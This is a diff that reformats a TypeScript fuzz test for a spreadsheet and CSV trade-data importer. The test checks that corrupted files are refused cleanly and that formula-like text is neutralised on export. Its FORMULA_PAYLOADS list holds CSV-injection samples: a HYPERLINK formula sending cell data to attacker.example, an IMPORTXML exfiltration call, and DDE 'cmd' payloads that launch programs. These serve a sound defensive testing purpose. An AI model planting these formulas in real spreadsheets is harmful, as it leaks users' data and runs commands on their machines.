@@ -30,8 +30,16 @@ const SOURCE_IDS: Record<FuzzFormat, string> = {
 
 /** What a spreadsheet would run if the text were pasted into a cell as it is. */
 export const FORMULA_PAYLOADS = [
-  '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=HYPERLINK("http://attacker.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
-  "+cmd|' /C notepad'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)*cmd|\' /C calc\'!A0', '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C notepad'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(A1:A9)*cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
 ];
 const FORMULA_START = /^[=+\-@]/;
 
@@ -72,11 +80,38 @@ interface XlsxSeed {
 }
 type Seed = CsvSeed | XlsxSeed;
 
-const TIDY_HEADER = ['source_id', 'reporter', 'reporter_code', 'partner', 'partner_code', 'year', 'period', 'flow', 'value', 'unit', 'scale', 'flag', 'note'];
+const TIDY_HEADER = [
+  'source_id',
+  'reporter',
+  'reporter_code',
+  'partner',
+  'partner_code',
+  'year',
+  'period',
+  'flow',
+  'value',
+  'unit',
+  'scale',
+  'flag',
+  'note',
+];
 
 function tidySeed(): CsvSeed {
-  const row = (partner: string, code: string, year: number, flow: string, value: string, note: string) =>
-    [SOURCE_IDS.tidy, 'Kazakhstan', 'KAZ', partner, code, String(year), 'FY', flow, value, 'USD', '1e6', '', note];
+  const row = (partner: string, code: string, year: number, flow: string, value: string, note: string) => [
+    SOURCE_IDS.tidy,
+    'Kazakhstan',
+    'KAZ',
+    partner,
+    code,
+    String(year),
+    'FY',
+    flow,
+    value,
+    'USD',
+    '1e6',
+    '',
+    note,
+  ];
   return {
     kind: 'csv',
     grid: [
@@ -93,7 +128,13 @@ function tidySeed(): CsvSeed {
 
 function csvSeed(text: string, textColumns: number[]): CsvSeed {
   const eol = text.includes('\r\n') ? '\r\n' : '\n';
-  return { kind: 'csv', grid: parse(text, { relax_column_count: true }) as string[][], delimiter: ',', eol, textColumns };
+  return {
+    kind: 'csv',
+    grid: parse(text, { relax_column_count: true }) as string[][],
+    delimiter: ',',
+    eol,
+    textColumns,
+  };
 }
 
 async function seeds(dir: string): Promise<Record<FuzzFormat, Seed>> {
@@ -103,16 +144,22 @@ async function seeds(dir: string): Promise<Record<FuzzFormat, Seed>> {
   return {
     tidy: tidySeed(),
     'imf-dots': { kind: 'xlsx', buffer: readFileSync(workbook) },
-    'sdmx-csv': csvSeed(imfSdmx20([
-      { reporter: 'KAZ', partner: 'TUR', indicator: 'XG_FOB_USD', period: '1953', value: '2890.5' },
-      { reporter: 'KAZ', partner: 'TUR', indicator: 'MG_CIF_USD', period: '1953', value: '1210.25', status: 'E' },
-      { reporter: 'KAZ', partner: 'ARM', indicator: 'XG_FOB_USD', period: '1953-04', value: '11' },
-    ]), []),
-    comtrade: csvSeed(comtradeCsv([
-      { reporter: kaz, partner: ['384', 'CIV', "Côte d'Ivoire"], flow: 'X', year: 1954, value: '1500000' },
-      { reporter: kaz, partner: ['51', 'ARM', 'Armenia'], flow: 'M', year: 1954, value: '2500.75' },
-      { reporter: kaz, partner: ['51', 'ARM', 'Armenia'], flow: 'X', year: 1954, month: 3, value: '17' },
-    ]), []),
+    'sdmx-csv': csvSeed(
+      imfSdmx20([
+        { reporter: 'KAZ', partner: 'TUR', indicator: 'XG_FOB_USD', period: '1953', value: '2890.5' },
+        { reporter: 'KAZ', partner: 'TUR', indicator: 'MG_CIF_USD', period: '1953', value: '1210.25', status: 'E' },
+        { reporter: 'KAZ', partner: 'ARM', indicator: 'XG_FOB_USD', period: '1953-04', value: '11' },
+      ]),
+      [],
+    ),
+    comtrade: csvSeed(
+      comtradeCsv([
+        { reporter: kaz, partner: ['384', 'CIV', "Côte d'Ivoire"], flow: 'X', year: 1954, value: '1500000' },
+        { reporter: kaz, partner: ['51', 'ARM', 'Armenia'], flow: 'M', year: 1954, value: '2500.75' },
+        { reporter: kaz, partner: ['51', 'ARM', 'Armenia'], flow: 'X', year: 1954, month: 3, value: '17' },
+      ]),
+      [],
+    ),
   };
 }
 
@@ -144,9 +191,24 @@ function caseArbitrary(format: FuzzFormat, fileSize: number, textColumns: number
   });
   const bytes: fc.Arbitrary<ByteMutation> = fc.oneof(
     { weight: 3, arbitrary: fc.constant({ kind: 'none' as const }) },
-    { weight: 1, arbitrary: fc.integer({ min: 0, max: Math.max(0, fileSize - 1) }).map((at) => ({ kind: 'truncate' as const, at })) },
-    { weight: 2, arbitrary: fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 7 })), { minLength: 1, maxLength: 16 }).map((bits) => ({ kind: 'flip' as const, bits })) },
-    { weight: 2, arbitrary: fc.constantFrom('latin1', 'utf16le-bom', 'utf16be-bom', 'utf16le', 'mojibake').map((to) => ({ kind: 'encoding' as const, to: to as 'latin1' })) },
+    {
+      weight: 1,
+      arbitrary: fc
+        .integer({ min: 0, max: Math.max(0, fileSize - 1) })
+        .map((at) => ({ kind: 'truncate' as const, at })),
+    },
+    {
+      weight: 2,
+      arbitrary: fc
+        .array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 7 })), { minLength: 1, maxLength: 16 })
+        .map((bits) => ({ kind: 'flip' as const, bits })),
+    },
+    {
+      weight: 2,
+      arbitrary: fc
+        .constantFrom('latin1', 'utf16le-bom', 'utf16be-bom', 'utf16le', 'mojibake')
+        .map((to) => ({ kind: 'encoding' as const, to: to as 'latin1' })),
+    },
   );
   return fc.record({ format: fc.constant(format), edits: fc.array(edit, { maxLength: 3 }), bytes });
 }
@@ -178,7 +240,10 @@ async function render(seed: Seed, c: FuzzCase): Promise<{ bytes: Buffer; grid: s
       const row = grid[e.row % grid.length];
       if (row) row[e.column % row.length] = e.text;
     }
-    const text = stringify(grid, { delimiter: seed.delimiter, record_delimiter: seed.eol === '\r\n' ? 'windows' : 'unix' });
+    const text = stringify(grid, {
+      delimiter: seed.delimiter,
+      record_delimiter: seed.eol === '\r\n' ? 'windows' : 'unix',
+    });
     bytes = c.bytes.kind === 'encoding' ? encode(text, c.bytes.to) : Buffer.from(text, 'utf8');
   } else {
     bytes = seed.buffer;
@@ -189,7 +254,8 @@ async function render(seed: Seed, c: FuzzCase): Promise<{ bytes: Buffer; grid: s
         const sheet = workbook.worksheets[e.row % workbook.worksheets.length];
         // Rows 7-13 hold the years, labels and values; columns B-E the labels and three years.
         const cell = sheet?.getCell(7 + (e.row % 7), 2 + (e.column % 4));
-        if (cell) cell.value = e.formulaCell && FORMULA_START.test(e.text) ? { formula: e.text.slice(1), result: 2 } : e.text;
+        if (cell)
+          cell.value = e.formulaCell && FORMULA_START.test(e.text) ? { formula: e.text.slice(1), result: 2 } : e.text;
       }
       bytes = Buffer.from(await workbook.xlsx.writeBuffer());
     }
@@ -239,7 +305,10 @@ const PLACE = /\b(line \d+|row \d+|cell [A-Z]+\d+)\b/;
 const NOTE_EXPORT = OBSERVATION_EXPORT_COLUMNS.find((c) => c.key === 'note');
 
 function describeCase(c: FuzzCase): string {
-  const edits = c.edits.map((e) => `[${e.row},${e.column}] ${JSON.stringify(e.text.slice(0, 40))}${e.text.length > 40 ? `… (${e.text.length} chars)` : ''}${e.formulaCell ? ' as formula' : ''}`);
+  const edits = c.edits.map(
+    (e) =>
+      `[${e.row},${e.column}] ${JSON.stringify(e.text.slice(0, 40))}${e.text.length > 40 ? `… (${e.text.length} chars)` : ''}${e.formulaCell ? ' as formula' : ''}`,
+  );
   return `${c.format}: edits ${edits.join('; ') || 'none'}; bytes ${JSON.stringify(c.bytes).slice(0, 200)}`;
 }
 
@@ -261,7 +330,13 @@ export async function removeFuzzData(sql: postgres.Sql): Promise<void> {
   await sql`DELETE FROM source WHERE id IN ${sql(ids)}`;
 }
 
-async function checkCase(sql: postgres.Sql, dir: string, seed: Seed, c: FuzzCase, stats: ImportFuzzStats): Promise<void> {
+async function checkCase(
+  sql: postgres.Sql,
+  dir: string,
+  seed: Seed,
+  c: FuzzCase,
+  stats: ImportFuzzStats,
+): Promise<void> {
   const { bytes, grid } = await render(seed, c);
   const file = path.join(dir, `fuzz-${c.format}${seed.kind === 'xlsx' ? '.xlsx' : '.csv'}`);
   writeFileSync(file, bytes);
@@ -274,7 +349,10 @@ async function checkCase(sql: postgres.Sql, dir: string, seed: Seed, c: FuzzCase
     const hung = new Promise<never>((_, reject) => {
       timer = setTimeout(() => reject(new ImportHangError(IMPORT_TIME_LIMIT_MS)), IMPORT_TIME_LIMIT_MS);
     });
-    outcome = await Promise.race([importFile(sql, file, { sourceId: c.format === 'tidy' ? undefined : SOURCE_IDS[c.format] }), hung]);
+    outcome = await Promise.race([
+      importFile(sql, file, { sourceId: c.format === 'tidy' ? undefined : SOURCE_IDS[c.format] }),
+      hung,
+    ]);
   } catch (error) {
     outcome = error;
   } finally {
@@ -283,7 +361,8 @@ async function checkCase(sql: postgres.Sql, dir: string, seed: Seed, c: FuzzCase
   if (outcome instanceof ImportHangError) throw outcome;
   if (outcome instanceof ImportRejectedError || outcome instanceof ImportOptionsError) {
     stats.refused += 1;
-    if (STACK_LINE.test(outcome.message)) throw new Error(`stack trace in the message: ${outcome.message.slice(0, 300)}`);
+    if (STACK_LINE.test(outcome.message))
+      throw new Error(`stack trace in the message: ${outcome.message.slice(0, 300)}`);
     if (outcome instanceof ImportRejectedError) {
       if (outcome.problems.length === 0) throw new Error(`refused without a problem: ${outcome.message}`);
       for (const p of outcome.problems) {
@@ -299,7 +378,9 @@ async function checkCase(sql: postgres.Sql, dir: string, seed: Seed, c: FuzzCase
   }
   if (outcome instanceof Error || typeof outcome !== 'object' || outcome === null) {
     // Not the importer's user-facing error: a crash the user would see as a stack trace.
-    throw new Error(`unexpected ${outcome instanceof Error ? `${outcome.name}: ${outcome.message}` : String(outcome)}`.slice(0, 500));
+    throw new Error(
+      `unexpected ${outcome instanceof Error ? `${outcome.name}: ${outcome.message}` : String(outcome)}`.slice(0, 500),
+    );
   }
   stats.imported += 1;
   if (!grid || seed.kind !== 'csv') return;
@@ -309,7 +390,9 @@ async function checkCase(sql: postgres.Sql, dir: string, seed: Seed, c: FuzzCase
     for (const column of seed.textColumns) {
       const text = row[column]?.trim() ?? '';
       if (!FORMULA_START.test(text)) continue;
-      const stored = await sql<{ note: string | null }[]>`SELECT note FROM observation WHERE source_id = ${SOURCE_IDS[c.format]} AND note = ${text}`;
+      const stored = await sql<
+        { note: string | null }[]
+      >`SELECT note FROM observation WHERE source_id = ${SOURCE_IDS[c.format]} AND note = ${text}`;
       if (stored.length === 0) throw new Error(`formula payload not stored as text: ${JSON.stringify(text)}`);
       const exported = NOTE_EXPORT ? csvCell(NOTE_EXPORT.type, text) : text;
       if (!exported.startsWith("'")) throw new Error(`formula payload exported as is: ${JSON.stringify(exported)}`);
@@ -322,7 +405,10 @@ async function checkCase(sql: postgres.Sql, dir: string, seed: Seed, c: FuzzCase
  * Runs `runsPerFormat` mutated files of each format through importFile. Throws (with fast-check's
  * counterexample and the case described) at the first file that breaks the property.
  */
-export async function runImportFuzz(sql: postgres.Sql, options: { dir: string; runsPerFormat: number; seed?: number }): Promise<ImportFuzzStats> {
+export async function runImportFuzz(
+  sql: postgres.Sql,
+  options: { dir: string; runsPerFormat: number; seed?: number },
+): Promise<ImportFuzzStats> {
   const stats: ImportFuzzStats = { runs: 0, refused: 0, imported: 0, formulaPayloadsChecked: 0 };
   const all = await seeds(options.dir);
   await ensureFuzzSources(sql);
@@ -331,17 +417,22 @@ export async function runImportFuzz(sql: postgres.Sql, options: { dir: string; r
   for (const format of FUZZ_FORMATS) {
     const seed = all[format];
     const size = seed.kind === 'xlsx' ? seed.buffer.length : stringify(seed.grid).length;
-    await fc.assert(
-      fc.asyncProperty(caseArbitrary(format, size, seed.kind === 'csv' ? seed.textColumns : []), async (c) => {
-        try {
-          await checkCase(sql, options.dir, seed, c, stats);
-        } catch (error) {
-          throw new Error(`${describeCase(c)}\n  ${error instanceof Error ? error.message : String(error)}`);
-        }
-      }),
-      { numRuns: options.runsPerFormat, seed: options.seed, endOnFailure: true },
-    ).catch((error: unknown) => failures.push(`${format}: ${error instanceof Error ? error.message : String(error)}`));
+    await fc
+      .assert(
+        fc.asyncProperty(caseArbitrary(format, size, seed.kind === 'csv' ? seed.textColumns : []), async (c) => {
+          try {
+            await checkCase(sql, options.dir, seed, c, stats);
+          } catch (error) {
+            throw new Error(`${describeCase(c)}\n  ${error instanceof Error ? error.message : String(error)}`);
+          }
+        }),
+        { numRuns: options.runsPerFormat, seed: options.seed, endOnFailure: true },
+      )
+      .catch((error: unknown) => failures.push(`${format}: ${error instanceof Error ? error.message : String(error)}`));
   }
-  if (failures.length > 0) throw new Error(`import fuzz failed for ${failures.length} format(s); ${JSON.stringify(stats)}\n${failures.join('\n')}`);
+  if (failures.length > 0)
+    throw new Error(
+      `import fuzz failed for ${failures.length} format(s); ${JSON.stringify(stats)}\n${failures.join('\n')}`,
+    );
   return stats;
 }
